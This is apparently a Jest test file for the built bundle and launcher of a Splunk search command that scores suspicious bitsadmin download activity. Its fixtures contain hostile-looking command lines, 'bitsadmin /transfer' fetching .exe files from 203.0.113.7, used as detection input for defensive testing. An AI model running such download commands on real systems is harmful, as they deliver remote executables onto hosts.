/** The program as it is shipped: bundle and launcher, as processes. */
import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { builtinModules } from 'node:module';
import { join } from 'node:path';
import { signals } from '../../src/score/index.js';
import { execute, getinfo, records, replies } from './conversation.js';
import { Installed, bundle } from './installed.js';

const describeBuilt = existsSync(bundle) ? describe : describe.skip;
const input = Buffer.concat([getinfo(), execute('process,_chunked_idx\nbitsadmin /transfer j http://203.0.113.7/a.exe C:\\a.exe,0\n')]);

let app: Installed;
beforeEach(() => {
  app = new Installed();
  app.file('local/node.path', process.execPath, 0o644);
});
afterEach(() => { app.remove(); });

describeBuilt('the bundle (npm run build makes it)', () => {
  test('is small, and holds no package', () => {
    const text = readFileSync(bundle, 'utf8');
    expect(statSync(bundle).size).toBeLessThanOrEqual(120 * 1024);
    expect(text).not.toContain('node_modules');
    const asked = [...text.matchAll(/\brequire\("([^"]+)"\)/g)].map((match) => match[1] ?? '');
    expect(asked.filter((name) => !name.startsWith('node:') || !builtinModules.includes(name.slice(5)))).toEqual([]);
  });

  test('runs what scores only when rows come', () => {
    const marked = readFileSync(bundle, 'utf8').replace(/(["'`])source-public-address\1/, '(() => { throw new Error("read"); })()');
    app.file('bin/bitsscore.cjs', marked, 0o644);
    const information = app.start({ input: getinfo() });
    expect([information.status, replies(information.stdout).length]).toEqual([0, 1]);
    expect(app.start({ input })).toMatchObject({ status: 1, err: '' });
  });

  test('score by way of the launcher, write nothing to stderr, and log with their pid', () => {
    const { status, stdout, err } = app.start({ input, env: { NODE_OPTIONS: '--no-such-option', LD_LIBRARY_PATH: '/nonexistent' } });
    expect([status, err]).toEqual([0, '']);
    const [row] = records(replies(stdout)[1]?.body ?? '');
    expect(row).toMatchObject({ _chunked_idx: '0', bits_url: 'http://203.0.113.7/a.exe' });
    const log = readFileSync(join(app.home, 'var/log/splunk/bitsscore.log'), 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(log.map(({ message }) => message)).toEqual(['first rows', 'input ended']);
    expect(log.every(({ pid }) => typeof pid === 'number')).toBe(true);
    expect(JSON.stringify(log)).not.toContain('invented-key');
  });

  test('getinfo alone leaves no trace; settings of this app are read', () => {
    app.file('local/bitsscore.conf', '[bitsscore]\nthreshold = many\n', 0o644);
    const { stdout } = app.start({ input: getinfo() });
    expect(JSON.stringify(replies(stdout)[0]?.metadata['inspector'])).toContain('default 50 holds');
    expect(readdirSync(join(app.home, 'var/log/splunk'))).toEqual([]);
  });

  test('getinfo asks for the same fields whether an admin has set something or not', () => {
    const plain = replies(app.start({ input: getinfo() }).stdout);
    app.file('local/bitsscore.conf', '[bitsscore]\nthreshold = 60\n', 0o644);
    expect(replies(app.start({ input: getinfo() }).stdout)).toEqual(plain);
  });

  test('both files of settings count: what ships, and what an admin wrote over it', () => {
    const score = (): string | undefined => records(replies(app.start({ input }).stdout)[1]?.body ?? '')[0]?.['bits_score'];
    const plain = score();
    app.file('default/bitsscore.conf', signals.map(({ id }) => `[signal:${id}]\nimpact = 0\n`).join(''), 0o644);
    const silenced = score();
    app.file('local/bitsscore.conf', signals.map(({ id }) => `[signal:${id}]\nimpact = 100\n`).join(''), 0o644);
    expect([Number(plain) > 0, silenced, Number(score()) > Number(plain)]).toEqual([true, '0', true]);
  });

  test.each([[1 << 20, undefined], [(1 << 20) + 1, { messages: [['WARN', 'local/bitsscore.conf is larger than 1 MiB: nothing of it is read, and what it sets keeps its default']] }]])('settings of %d bytes', (size, inspector) => {
    const conf = '[bitsscore]\nthreshold = 100\n#';
    app.file('local/bitsscore.conf', conf + 'x'.repeat(size - conf.length), 0o644);
    const [information, answer] = replies(app.start({ input }).stdout);
    expect(information?.metadata['inspector']).toEqual(inspector);
    expect(records(answer?.body ?? '')[0]?.['bits_reasons'] === '').toBe(inspector === undefined);
  });

  test('thousands of rows are answered as one by one, however V8 compiles meanwhile', () => {
    const lines = Array.from({ length: 5_000 }, (_, index) => `bitsadmin /transfer job${index} http://203.0.113.7/${index}.exe C:\\${index}.exe`);
    const { status, stdout, err } = app.start({ input: Buffer.concat([getinfo(), execute(`process,_chunked_idx\n${lines.map((line, index) => `${line},${index}\n`).join('')}`)]) });
    expect([status, err]).toEqual([0, '']);
    const rows = records(replies(stdout)[1]?.body ?? '');
    expect(rows.map(({ bits_url: url, bits_job: job }) => `${job} ${url}`)).toEqual(lines.map((_, index) => `job${index} http://203.0.113.7/${index}.exe`));
    expect(new Set(rows.map(({ bits_score: score }) => score)).size).toBe(1);
  });

  test('an input that ends inside a chunk ends in exit code 1 and no output', () => {
    expect(app.start({ input: input.subarray(0, 30) })).toMatchObject({ status: 1, out: '', err: '' });
  });
});
